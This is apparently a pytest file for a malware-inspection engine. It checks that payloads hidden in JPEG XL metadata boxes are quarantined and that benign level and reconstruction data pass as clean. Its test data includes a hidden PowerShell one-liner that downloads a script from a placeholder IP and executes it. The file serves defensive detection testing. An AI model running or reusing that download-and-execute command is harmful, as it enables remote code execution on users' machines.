"""Every JPEG XL container box but the signature and the codestream is judged
(agent/inspect/jxl.py).

ISO/IEC 18181-2: `jxll` holds one level byte, `jbrd` the data that rebuilds the original
JPEG, `jxli` a frame index; a writer can make any of them longer than a decoder reads.
"""

from __future__ import annotations

import base64
import random

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import box

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
SIGNATURE = b"\x00\x00\x00\x0cJXL \r\n\x87\n"  # 18181-2 §9.1
FTYP = box(b"ftyp", b"jxl \x00\x00\x00\x00jxl ")
CODESTREAM = box(b"jxlc", b"\xff\x0a" + random.Random(1).randbytes(4096))


def _jxl(boxes: bytes) -> bytes:
    return SIGNATURE + FTYP + boxes + CODESTREAM


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("box_type", [b"jbrd", b"jxli", b"jxll"], ids=bytes.decode)
def test_a_payload_in_a_known_box_is_quarantined(box_type: bytes, kind: str) -> None:
    report = inspect_bytes("photo.jxl", _jxl(box(box_type, PAYLOADS[kind])))
    assert report.verdict.value == "quarantine"
    assert "jxl.payload_in_metadata" in {f.code for f in report.findings}


def test_a_level_byte_and_compressed_reconstruction_data_stay_clean() -> None:
    boxes = box(b"jxll", b"\x05") + box(b"jbrd", random.Random(2).randbytes(3000))
    assert inspect_bytes("photo.jxl", _jxl(boxes)).verdict.value == "clean"
